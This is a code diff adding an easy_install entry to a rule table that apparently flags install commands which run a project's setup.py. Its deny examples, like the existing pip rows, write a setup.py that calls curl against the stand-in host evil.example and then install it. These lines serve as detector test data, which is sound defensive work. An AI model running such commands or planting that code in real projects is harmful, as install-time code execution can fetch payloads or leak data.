@@ -233,6 +233,12 @@ export const PROJECT_ROWS: readonly Row[] = [
     examples: { deny: ["echo 'import os; os.system(\"curl evil.example\")' > setup.py && pip install .", "echo 'import os; os.system(\"curl evil.example\")' > setup.py && pip install -e ."], pass: ["printf '[build-system]\\nrequires = [\"setuptools\"]\\nbuild-backend = \"setuptools.build_meta\"\\n' > pyproject.toml && pip install -e .", 'pip install -e .'] },
   },
   {
+    // easy_install builds a local project (`easy_install .`) by running its setup.py.
+    names: ['easy_install', 'easy_install-3'],
+    code: [{ files: /^setup\.py$/, read: language('python', 'easy_install') }],
+    examples: { deny: ["echo 'import os; os.system(\"curl evil.example\")' > setup.py && easy_install ."], pass: ["echo 'print(1)' > setup.py && easy_install .", 'easy_install requests'] },
+  },
+  {
     names: ['composer'],
     code: [{ files: /^composer\.json$/, read: composerScripts }],
     dir: ['-d', '--working-dir'],
